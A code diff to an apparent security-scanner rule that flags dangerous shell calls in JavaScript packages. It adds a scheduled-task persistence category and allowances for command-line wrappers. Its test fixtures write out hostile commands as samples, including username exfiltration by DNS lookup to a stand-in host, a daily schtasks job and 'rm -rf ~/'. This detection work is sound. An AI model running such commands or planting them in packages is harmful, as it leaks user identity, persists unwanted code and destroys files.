@@ -1,6 +1,6 @@
 import { defineRule, step } from '../src/define.js';
-import type { ShellCommand } from '../src/types.js';
-import { deedsOf } from '../src/vocabulary/deeds.js';
+import type { Call, FileContext, ShellCommand } from '../src/types.js';
+import { type Deed, deedsOf } from '../src/vocabulary/deeds.js';
 import { oddAddress } from '../src/vocabulary/services.js';
 
 /**
@@ -28,6 +28,7 @@ export default defineRule({
       agent: 'Has a coding agent do what it likes: {command}',
       mine: 'Mines cryptocurrency: {command}',
       persist: 'Makes something start again and again: {command}',
+      scheduled: 'Makes something start again and again, when its command is called: {command}',
       executable: 'Starts a program: {command}',
       'odd-contact': 'Hands the shell a command that {says}: {command}',
     },
@@ -45,6 +46,7 @@ export default defineRule({
       agent: 3,
       mine: 12.5,
       persist: 6.5,
+      scheduled: 2,
       executable: 3,
       'odd-contact': 9,
     },
@@ -71,6 +73,10 @@ export default defineRule({
         title: 'who it is leaves as a host name',
         code: `require('child_process').exec('nslookup $(whoami).collect.invalid');`,
       },
+      {
+        title: 'a package has itself started every day, whoever loads it',
+        code: `require('child_process').execSync('schtasks /create /tn a /tr "node a.js" /sc daily');`,
+      },
       { title: 'the home folder is wiped', code: `require('child_process').execSync('rm -rf ~/');` },
     ],
     passes: [
@@ -84,6 +90,21 @@ export default defineRule({
         title: 'an answer is formatted',
         code: `require('child_process').execSync('curl -s https://a.invalid/state.json | python -m json.tool');`,
       },
+      {
+        title: 'a program is asked for its version, and a login script looked at',
+        code: `const cp = require('child_process');\ncp.execFileSync('./bin/tool.exe', ['--version']);\ncp.execSync('grep tool ~/.bashrc');\ncp.execSync('cp ~/.bashrc ~/.bashrc-before');`,
+      },
+      {
+        title: 'a command hands on what it is told',
+        files: {
+          'package.json': '{"name":"tool","version":"1.0.0","bin":"cli.js"}',
+          'cli.js': `require('child_process').spawnSync(__dirname + '/tool.exe', process.argv.slice(2), { stdio: 'inherit' });`,
+        },
+      },
+      {
+        title: 'a function starts the package’s program for whoever calls it',
+        code: `exports.start = args => require('child_process').spawn(__dirname + '/driver.exe', args, { stdio: 'inherit' });`,
+      },
       { title: 'the registry is asked', code: `require('child_process').execSync('npm view left-pad version');` },
     ],
   },
@@ -93,15 +114,29 @@ export default defineRule({
       if (!program) continue;
       const commands = context.commandsOf(program, list);
       const [worst] = deedsOf(commands).filter(({ deed }) => !QUIET.has(deed));
-      if (!worst) continue;
+      if (!worst || (worst.deed === 'executable' && handsOn(context, call))) continue;
       context.report({
-        messageId: worst.deed === 'download-run' && isProgram(commands) ? 'download-program' : worst.deed,
+        messageId: messageOf(context, worst.deed, commands),
         data: { says: worst.says, command: worst.command.text },
         chain: [step('sink', `${worst.says} through ${call.name}`, context.file, call.node)],
       });
     }
   },
 });
+
+function messageOf({ moment }: FileContext, deed: Deed, commands: readonly ShellCommand[]): string {
+  if (deed === 'download-run' && isProgram(commands)) return 'download-program';
+  // A tool that is called may be told to call itself every day.
+  return deed === 'persist' && moment === 'command' ? 'scheduled' : deed;
+}
+
+/** What hands its user's words to the program it stands for: a command, or a function that only others call. */
+function handsOn({ labelsOf, isHandedIn }: FileContext, { args: [, list] }: Call): boolean {
+  if (!list) return false;
+  return (
+    isHandedIn(list) || labelsOf(list).some(({ kind, detail }) => kind === 'argument' && detail === 'process.argv')
+  );
+}
 
 /** Tools have a shell run somebody's installer; a Windows program, or a host without a name, is not that. */
 function isProgram(commands: readonly ShellCommand[]): boolean {
